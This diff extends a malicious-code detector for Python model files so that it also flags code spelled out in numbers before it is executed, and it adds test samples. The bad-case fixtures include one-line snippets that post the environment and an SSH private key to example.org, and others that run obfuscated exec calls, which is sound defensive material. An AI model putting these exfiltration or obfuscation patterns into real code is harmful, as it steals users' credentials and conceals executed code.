@@ -13,7 +13,7 @@ crate::rule! {
     /// # What it detects
     ///
     /// Values from the environment, from files of credentials, from the network or from encoded constants that reach the network, an
-    /// interpreter, a deserialiser or a file, within one file.
+    /// interpreter, a deserialiser or a file, within one file; and code that is put together from numbers before it is run.
     ///
     /// # Why it matters
     ///
@@ -82,6 +82,8 @@ fn weigh(flow: &Flow, role: Role, told: &Told<'_>) -> Option<Severity> {
         ("network", "execution") => by_model(High, Medium),
         ("decoded literal", "execution") if runs_text(&flow.callee) || at_import => Some(Critical),
         ("decoded literal", "execution") => by_model(High, Medium),
+        // Whoever spells code in numbers does not want it to be read.
+        ("assembled text", "execution") => Some(High),
         ("hub", "execution") if flow.callee.starts_with("builtins.") => Some(High),
         ("hub", "execution") if runs_text(&flow.callee) => by_model(High, Medium),
         ("environment", "network") if at_import => by_model(Critical, Medium),
@@ -141,6 +143,8 @@ crate::samples! {
     bad: {
         "the environment is sent away" => [("modeling_x.py", b"import os, requests\nrequests.post('https://example.org', json=dict(os.environ))\n".to_vec())],
         "a decoded program is run" => [("modeling_x.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".to_vec())],
+        "code in numbers" => [("train.py", b"exec(''.join(chr(c) for c in [112, 97, 115, 115]))\n".to_vec())],
+        "code under a mask" => [("modeling_x.py", b"exec(bytes(b ^ 7 for b in b'wftt').decode())\n".to_vec())],
         "keys are sent away" => [("modeling_x.py", b"import requests, os\ndef f():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://example.org', data=key)\n".to_vec())],
     },
     ok: {
